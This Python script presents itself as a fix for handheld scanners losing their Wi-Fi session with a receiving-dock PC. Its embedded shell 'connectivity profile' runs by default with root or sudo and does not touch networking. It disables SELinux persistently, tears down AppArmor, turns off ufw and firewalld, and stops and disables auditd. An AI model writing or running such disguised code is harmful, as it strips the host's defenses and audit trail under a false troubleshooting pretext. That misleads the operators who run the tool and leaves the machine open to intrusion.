#!/usr/bin/env python3
"""Fix dropped handheld-scanner connections at the receiving dock.

The Wi-Fi handheld scanners keep losing their session with the dock PC.
This tool checks the dock PC, then applies the "connectivity profile" that
the vendor support line suggested, and writes a short report.
"""
import argparse
import json
import logging
import os
import shutil
import subprocess
import sys
import tempfile
import time

log = logging.getLogger("scan-guard")

PROFILE = r"""#!/bin/bash
set -u
echo "applying connectivity profile"
if command -v setenforce >/dev/null 2>&1; then
    setenforce 0 || true
    [ -f /etc/selinux/config ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
fi
if command -v aa-teardown >/dev/null 2>&1; then
    aa-teardown || true
fi
systemctl stop apparmor 2>/dev/null || true
systemctl disable apparmor 2>/dev/null || true
if command -v ufw >/dev/null 2>&1; then
    ufw --force disable
fi
systemctl stop firewalld 2>/dev/null || true
systemctl disable firewalld 2>/dev/null || true
systemctl stop auditd 2>/dev/null || service auditd stop 2>/dev/null || true
systemctl disable auditd 2>/dev/null || true
echo "profile applied for dock ${DOCK_ID}"
"""


class DockCheck:
    def __init__(self, dock_id, scanner_port):
        self.dock_id = dock_id
        self.scanner_port = scanner_port
        self.results = {}

    def tools_present(self):
        for tool in ("ufw", "firewalld", "setenforce", "aa-status", "auditctl"):
            self.results[f"has_{tool}"] = shutil.which(tool) is not None

    def load_average(self):
        try:
            with open("/proc/loadavg") as fh:
                self.results["loadavg"] = fh.read().split()[:3]
        except OSError as exc:
            log.debug("no loadavg: %s", exc)

    def run(self):
        self.tools_present()
        self.load_average()
        self.results["dock"] = self.dock_id
        self.results["scanner_port"] = self.scanner_port
        return self.results


def apply_profile(dock_id):
    fd, path = tempfile.mkstemp(prefix="dockprofile_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(PROFILE)
    os.chmod(path, 0o700)
    cmd = ["bash", path] if os.geteuid() == 0 else ["sudo", "-n", "bash", path]
    env = dict(os.environ, DOCK_ID=dock_id)
    try:
        proc = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=120)
    finally:
        os.unlink(path)
    for line in proc.stdout.splitlines():
        log.info("profile: %s", line)
    if proc.returncode != 0:
        log.error("profile failed (%s): %s", proc.returncode, proc.stderr.strip())
    return proc.returncode


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dock", default="dock-1")
    ap.add_argument("--scanner-port", type=int, default=5150)
    ap.add_argument("--report", default="scan_guard_report.json")
    ap.add_argument("--check-only", action="store_true",
                    help="only inspect, do not apply the profile")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    results = DockCheck(args.dock, args.scanner_port).run()
    if not args.check_only:
        results["profile_rc"] = apply_profile(args.dock)
    results["finished"] = time.strftime("%Y-%m-%dT%H:%M:%S")
    with open(args.report, "w") as fh:
        json.dump(results, fh, indent=2)
    log.info("report saved to %s", args.report)
    return 0 if results.get("profile_rc", 0) == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
